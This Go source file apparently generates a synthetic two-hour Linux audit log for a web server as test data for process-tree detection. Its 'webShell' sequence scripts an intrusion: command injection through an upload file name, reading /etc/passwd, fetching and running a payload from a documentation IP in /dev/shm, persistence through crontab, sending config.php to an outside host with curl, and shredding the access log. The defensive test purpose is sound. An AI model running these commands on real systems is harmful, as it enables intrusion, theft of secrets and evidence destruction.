package main

import (
	"time"

	"github.com/gophertrees/gopherwood/dataframe"
)

// sh is a shell that runs one line.
func sh(line string, then ...command) command {
	return run("/usr/bin/dash", "/bin/sh -c "+line, then...)
}

// What the agent of the virtual machine asks every half minute, and what cron does.
var (
	firewall = sh("iptables -w -t filter -C INPUT -s 192.0.2.16 -j ACCEPT",
		run("/usr/sbin/xtables-nft-multi", "iptables -w -t filter -C INPUT -s 192.0.2.16 -j ACCEPT"))
	firewallVersion = sh("iptables --version", run("/usr/sbin/xtables-nft-multi", "iptables --version"))
	addresses       = sh("ip -4 -a -o address", run("/usr/bin/ip", "ip -4 -a -o address"))

	hourly  = sh("cd / && run-parts --report /etc/cron.hourly", run("/usr/bin/run-parts", "run-parts --report /etc/cron.hourly"))
	sysstat = run("/usr/bin/dash", "/bin/sh -c command -v debian-sa1 > /dev/null && debian-sa1 1 1")
	spool   = run("/usr/bin/sudo", "sudo test -r /var/log/audit/audit.log")
)

// upload is what the web application does with every picture that somebody sends.
func upload(name string) command {
	return sh("convert '"+name+"' -resize 800x600 thumb.jpg",
		run("/usr/bin/convert-im6.q16", "convert "+name+" -resize 800x600 thumb.jpg"))
}

// webShell is an intruder who found a way to give the web application a line of shell: a look
// around, a program from outside, a job that starts it again. The address is one of those
// reserved for documentation.
var webShell = []command{
	sh("convert 'x.png';id;'' -resize 800x600 thumb.jpg", run("/usr/bin/id", "id")),
	sh("convert '<script>alert(1)</script>\x1b[31m.png' -resize 800x600 thumb.jpg"),
	sh("cat /etc/passwd; uname -a", run("/usr/bin/cat", "cat /etc/passwd"), run("/usr/bin/uname", "uname -a")),
	sh("cd /dev/shm && wget -q http://198.51.100.23/k -O .k && chmod +x .k && ./.k",
		run("/usr/bin/wget", "wget -q http://198.51.100.23/k -O .k").in("/dev/shm"),
		run("/usr/bin/chmod", "chmod +x .k").in("/dev/shm"),
		run("/dev/shm/.k", "./.k", run("/usr/bin/bash", "bash -i",
			run("/usr/bin/find", "find / -perm -4000 -type f"),
			run("/usr/bin/ss", "ss -tnp"),
			run("/usr/bin/crontab", "crontab -").in("/tmp"),
			run("/usr/bin/base64", "base64 /var/www/html/config.php").in("/var/www/html"),
			run("/usr/bin/curl", "curl -s -F f=@- http://203.0.113.77/ü").in("/var/www/html"),
			run("/usr/bin/shred", "shred -u /var/log/apache2/access.log").in("/tmp"))).in("/dev/shm")),
}

// linuxSample is linux_proc_test: two hours of a Linux web server in 1,000 events. Auditd does
// not tell the parent's name, so all 29 roots are unknown but for their process ids; the third is
// the web application.
func linuxSample() dataframe.DataFrame {
	const total, minute = 1000, time.Minute
	h := &host{random: &generator{state: 20240611}, tick: time.Millisecond}

	agent := h.running(1187, "", root)
	agent.directory = "/var/lib/waagent/WALinuxAgent-2.9.1.1"
	h.repeat(agent, 30*time.Second, 6*minute, 19, addresses)

	session := 3100
	job := func(at time.Duration, who account, directory string, c command) {
		session++
		who.loginUID, who.session = who.uid, session
		h.play(h.forked(at, who, directory), at+3*time.Millisecond, c)
	}
	job(40*time.Second, root, "/root", sysstat)

	application := h.running(1350, "", web)
	application.directory = "/var/www/html/uploads"
	for i, name := range []string{"garten.jpg", "äpfel.png", "IMG_2041.jpg", "桜.jpg", "team.png", "IMG_2042.jpg", "baum.jpg"} {
		h.play(application, time.Duration(1+i*16)*minute, upload(name))
	}
	h.repeat(application, 3*minute, 7*minute, 16, sh("php -q /var/www/html/worker.php", run("/usr/bin/php8.2", "php -q /var/www/html/worker.php")).in("/var/www/html"))
	h.play(application, 71*minute, webShell...)

	for i := range 10 {
		job(time.Duration(5+i*11)*minute, root, "/root", hourly)
	}
	for i := range 16 {
		c, who := sysstat, root
		if i%4 == 3 {
			c, who = spool, metrics
		}
		job(time.Duration(6+i*7)*minute+20*time.Second, who, "/", c)
	}
	h.repeat(agent, 45*time.Second, 15*minute, 8, firewallVersion)
	h.fill(agent, minute, 118*minute, total, firewall)

	h.numberLinux(31200)
	return linuxFrame(h, machine{
		opening: time.Date(2024, 6, 11, 20, 0, 0, 0, time.UTC), name: "orchard-web01", tenant: h.random.guid(),
	})
}
